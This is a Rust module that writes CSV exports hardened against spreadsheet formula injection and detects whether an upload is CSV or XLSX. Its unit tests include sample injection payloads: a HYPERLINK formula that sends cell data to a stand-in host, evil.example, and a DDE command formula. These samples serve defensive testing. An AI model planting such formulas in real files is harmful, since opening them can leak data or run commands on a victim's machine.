//! CSV written for people to open in a spreadsheet. Every export and report goes through
//! [`CsvWriter`] (pages, and job code such as the import's rejected-rows report), so that no cell
//! a lead, a vendor or a user typed runs as a formula when the file is opened.
//!
//! The rule is OWASP's for CSV injection, applied to every cell alike: a cell that begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`. Numbers such as `-5` and
//! phones such as `+13055550142` are prefixed too and show as text; one rule for every cell is
//! easier to trust than a guess at which cells are numbers.
//!
//! Rows may differ in length: a report repeats each rejected row's own cells, and one file may hold
//! two tables.
//!
//! Reading goes the other way for uploads that may be a spreadsheet: [`sniff`] tells CSV text from
//! an Excel workbook (and refuses anything else), and [`xlsx_rows`] reads a workbook's first sheet
//! as rows of text cells, which the importer then maps as it would a CSV file's.

use std::borrow::Cow;
use std::io::{self, Write};

/// The text of a cell as written: with a leading `'` when a spreadsheet would read it as a formula.
pub fn cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A CSV writer whose every cell goes through [`cell`].
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        CsvWriter {
            inner: csv::WriterBuilder::new().flexible(true).from_writer(out),
        }
    }

    /// Writes one row.
    pub fn row<I>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        for c in cells {
            self.inner.write_field(cell(c.as_ref()).as_bytes())?;
        }
        // Ends the row (an empty row is written as `""`).
        self.inner.write_record(None::<&[u8]>)
    }

    /// Hands what is buffered to the underlying writer.
    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> io::Result<W> {
        self.inner.into_inner().map_err(|e| io::Error::other(e.to_string()))
    }
}

/// The CSV text of `rows`.
pub fn to_bytes<R, I>(rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator,
    I::Item: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new());
    for r in rows {
        // Writing to memory does not fail.
        let _ = w.row(r);
    }
    w.into_inner().unwrap_or_default()
}

/// Where the first `rows` rows of a CSV file written here end (the end of the file when it has
/// fewer): to cut a file back to them and add rows again.
pub fn end_of_rows<R: io::Read>(file: R, rows: u64) -> io::Result<u64> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(file);
    let mut record = csv::ByteRecord::new();
    for _ in 0..rows {
        if !reader.read_byte_record(&mut record).map_err(io::Error::other)? {
            break;
        }
    }
    Ok(reader.position().byte())
}

/// What an uploaded table file is, by its first bytes (never by its name).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TableFile {
    Csv,
    Xlsx,
}

impl TableFile {
    /// The file name extension a waiting upload of this kind is kept under.
    pub fn extension(self) -> &'static str {
        match self {
            TableFile::Csv => "csv",
            TableFile::Xlsx => "xlsx",
        }
    }
}

/// Tells CSV text from an Excel workbook; anything else (an old `.xls`, a PDF, an image, any
/// binary) is refused with a sentence for the person who uploaded it.
pub fn sniff(bytes: &[u8]) -> Result<TableFile, String> {
    if bytes.is_empty() {
        return Err("The file is empty.".into());
    }
    if bytes.starts_with(b"PK\x03\x04") {
        return Ok(TableFile::Xlsx);
    }
    if bytes.starts_with(&[0xD0, 0xCF, 0x11, 0xE0]) {
        return Err("This is an old Excel workbook (.xls): save it as .xlsx or as CSV and upload it again.".into());
    }
    let head = &bytes[..bytes.len().min(8192)];
    let text = match std::str::from_utf8(head) {
        Ok(_) => true,
        // Cut inside a character at the end of the sample: still text.
        Err(e) => e.error_len().is_none(),
    };
    let controls = head
        .iter()
        .any(|b| *b == 0 || (*b < 0x20 && !matches!(*b, b'\t' | b'\n' | b'\r' | 0x0C)));
    if !text || controls {
        return Err("This file is neither CSV text nor an Excel workbook (.xlsx).".into());
    }
    Ok(TableFile::Csv)
}

/// The first worksheet of an Excel workbook as rows of text: (1-based row number in the sheet,
/// cells). Numbers are written as typed (whole numbers without a decimal point), dates as
/// `YYYY-MM-DD`, an error cell as its code (`#DIV/0!`). Trailing empty rows are left out.
pub fn xlsx_rows(bytes: &[u8]) -> Result<Vec<(u64, Vec<String>)>, String> {
    use calamine::{Data, DataType, Reader};
    let unreadable = |e: &dyn std::fmt::Display| format!("The Excel workbook could not be read ({e}).");
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(io::Cursor::new(bytes)).map_err(|e| unreadable(&e))?;
    let range = match book.worksheet_range_at(0) {
        Some(r) => r.map_err(|e| unreadable(&e))?,
        None => return Err("The Excel workbook has no worksheet.".into()),
    };
    let first_row = range.start().map(|(r, _)| r as u64).unwrap_or(0);
    let text = |d: &Data| -> String {
        match d {
            Data::Empty => String::new(),
            Data::String(s) | Data::DateTimeIso(s) | Data::DurationIso(s) => s.clone(),
            Data::Int(i) => i.to_string(),
            Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
            Data::Float(f) => format!("{f}"),
            Data::Bool(b) => if *b { "TRUE" } else { "FALSE" }.to_string(),
            Data::DateTime(_) => match d.as_datetime() {
                Some(t) if t.time() == chrono::NaiveTime::MIN => t.date().format("%Y-%m-%d").to_string(),
                Some(t) => t.format("%Y-%m-%d %H:%M:%S").to_string(),
                None => String::new(),
            },
            Data::Error(e) => format!("#{e:?}"),
        }
    };
    Ok(range
        .rows()
        .enumerate()
        .map(|(i, row)| (first_row + i as u64 + 1, row.iter().map(text).collect()))
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_are_prefixed() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")",
            ),
            ("=CMD|'/C calc'!A0", "'=CMD|'/C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-5", "'-5"),
            ("+13055550142", "'+13055550142"),
        ] {
            assert_eq!(cell(raw), written, "{raw:?}");
        }
    }

    #[test]
    fn other_cells_are_unchanged() {
        for raw in ["Ana", "", "5", "a=b", " =1", "'=1", "ana@example.com", "Line\none"] {
            assert_eq!(cell(raw), raw, "{raw:?}");
        }
    }

    #[test]
    fn rows_of_any_length_are_written_and_quoted() {
        let text = to_bytes([vec!["a", "b, c", "=1"], vec![], vec!["d"], vec!["say \"hi\"", "-x"]]);
        assert_eq!(
            String::from_utf8(text).unwrap(),
            "a,\"b, c\",'=1\n\"\"\nd\n\"say \"\"hi\"\"\",'-x\n"
        );
    }

    #[test]
    fn end_of_rows_is_after_the_last_row_kept() {
        let text = to_bytes([vec!["line", "errors"], vec!["2", "two\nlines"], vec![], vec!["4", "x"]]);
        let ends: Vec<u64> = (0..6).map(|n| end_of_rows(&text[..], n).unwrap()).collect();
        let header = "line,errors\n".len() as u64;
        let second = header + "2,\"two\nlines\"\n".len() as u64;
        assert_eq!(
            ends,
            vec![0, header, second, second + 3, text.len() as u64, text.len() as u64]
        );
    }

    #[test]
    fn uploads_are_told_apart_by_their_bytes() {
        assert_eq!(sniff(b"Policy,Amount\nA1,10.00\n"), Ok(TableFile::Csv));
        assert_eq!(sniff(b"PK\x03\x04rest of a zip"), Ok(TableFile::Xlsx));
        assert!(sniff(b"").is_err());
        assert!(sniff(&[0xD0, 0xCF, 0x11, 0xE0, 0, 0]).unwrap_err().contains(".xls"));
        assert!(sniff(b"%PDF-1.7\n\x00\x01\x02binary").is_err());
        assert!(sniff(&[0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10]).is_err());
        // A multi-byte character cut at the end of the sample is still text.
        let mut long = "é".repeat(5000).into_bytes();
        long.truncate(8191);
        assert_eq!(sniff(&long), Ok(TableFile::Csv));
    }

    #[test]
    fn a_zip_that_is_no_workbook_is_refused_with_a_sentence() {
        let err = xlsx_rows(b"PK\x03\x04 not really a zip").unwrap_err();
        assert!(err.contains("could not be read"), "{err}");
    }
}
